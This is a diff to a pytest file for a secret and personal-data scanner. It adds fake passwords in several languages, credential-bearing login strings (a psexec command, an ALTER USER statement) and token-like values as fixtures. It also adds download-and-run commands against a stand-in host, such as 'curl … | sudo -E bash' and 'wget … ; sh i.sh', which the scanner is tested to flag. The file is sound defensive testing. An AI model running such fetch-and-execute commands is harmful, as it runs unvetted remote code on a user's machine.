@@ -23,6 +23,20 @@ GITLAB, GITHUB = "gl" + "pat-Xk3TzQ9wLr7VnB2mYc5H", "gh" + "p_wJ4kT9xQz2LmN8vR5b
 RANDOM, LONG = "Wm5zQ8tLx2", "q7TzWm4XkP9vBn2RsLd8YcHg3JfQa6Ue"
 UUID = "7c1e9a42-58d3-4f06-b2a7-90e4c3d15f68"
 AREA = f"{ROOT}/00.Shared/domain/F-002_Order"
+BEHIND = [
+    f"{joint.format('Kobe36dpy9')}" for joint in (
+        "パスワード【{}】", "password [{}]", "password - {}", "password, {}", "パスワード…{}", "パスワードも{}", "password\t{}", "パスワード(DB)：{}", "password: [{}](x.md)", "password: $${}",
+        "パスワード/{}", "パスコード：{}", "mật mã: {}", "ID／PW＝batch／{}", "password: {}/", "password: {}#1", "pass của DB: {}", "the password is now {}",
+    )
+]  # fmt: skip
+STEMS = [
+    f"{word}{value}" for word in ("password: ", "パスワードは", "mật khẩu: ") for value in ("prod48ubc3", "test36dpy9", "SAKURA2291", "PO48291736", "a48291736")
+]  # fmt: skip
+LOGINS = [f"{login}" for login in ("batch:Kobe36dpy9@db", "tuan:Kobe36dpy9@10.2.3.4:5432", "sa:Kobe36dpy9@db\\SQL1", "psexec \\\\box -u batch -p Kobe36dpy9", "ALTER USER batch IDENTIFIED BY Kobe36dpy9;")]  # fmt: skip
+ISSUED = [
+    f"{place}" for tail in ("r91u608jcjzo57lslkdqlsyp39wcmgr22pu", "W4YWMGEY7BCG5K2T9QXN3R8LVD6HJ1FPZ0S", "envkkstmmb6SP1MYcztH7KwGUPARkdOO")
+    for place in (f"momo_{tail}", f"see(acmepay_{tail})", f"https://x.acme.co/acme__{tail}", f"path: s3/momo-{tail}/orders.csv")
+]  # fmt: skip
 TOKENS = [
     f'"a\\n{GITLAB}"', f"\\t{GITHUB}", f"key\\u003d{GITLAB}", f"\\x20{GITHUB}", f"CI_{GITLAB}", f"MY_{GITHUB}", f"x_{GITLAB}_y", f"%0A{GITHUB}",
     "xo" + f"xc-1234567890-{LONG}", f"acme_live_{LONG}", f"zt_{LONG}", f"FOO-{LONG}", f"my_app_key_{LONG}",
@@ -77,7 +91,7 @@ def rows(texts: list[str], name: str) -> list[tuple[str, str]]:
 @pytest.mark.parametrize(
     ("text", "name"),
     [
-        *rows(TOKENS, "secret-"), *rows(COMMANDS, "secret-in-place"), *rows(PASSWORDS, "secret-value"), *rows(CODED, "secret-encoded"), *rows(PHONES, "personal-phone"), *rows(CARDS, "personal-card"),
+        *rows(TOKENS, "secret-"), *rows(COMMANDS, "secret-in-place"), *rows(PASSWORDS, "secret-value"), *rows(BEHIND, "secret-value"), *rows(STEMS, "secret-value"), *rows(LOGINS, "secret-in-place"), *rows(ISSUED, "secret-value"), *rows(CODED, "secret-encoded"), *rows(PHONES, "personal-phone"), *rows(CARDS, "personal-card"),
         *rows(MAILS, "personal-email"), *OTHERS,
     ],
 )  # fmt: skip
@@ -158,7 +172,7 @@ def test_commands_that_carry_data_out_are_told(text: str) -> None:
     assert "sending-command" in names(scan(text))
 
 
-@pytest.mark.parametrize("text", ["curl https://x.acme.dev/i | sudo -E bash", 'python3 -c "$(curl -s https://x.acme.dev/i.py)"', "perl <(curl https://x.acme.dev/i)", "curl https://x.acme.dev/i | tee a | sh", "curl https://x.acme.dev/i | env bash", "curl https://x.acme.dev/i | /bin/sh", "curl https://x.acme.dev/i |\\\n  sh", "mshta https://x.acme.dev/i.hta"])  # fmt: skip
+@pytest.mark.parametrize("text", ["curl https://x.acme.dev/i | sudo -E bash", 'python3 -c "$(curl -s https://x.acme.dev/i.py)"', "perl <(curl https://x.acme.dev/i)", "wget https://x.acme.dev/i.sh; sh i.sh", "curl -O https://x.acme.dev/i.sh && bash ./i.sh", "curl https://x.acme.dev/i | tee a | sh", "curl https://x.acme.dev/i | env bash", "curl https://x.acme.dev/i | /bin/sh", "curl https://x.acme.dev/i |\\\n  sh", "mshta https://x.acme.dev/i.hta"])  # fmt: skip
 def test_downloads_that_run_are_told(text: str) -> None:
     assert "piped-shell" in names(scan(text))
 
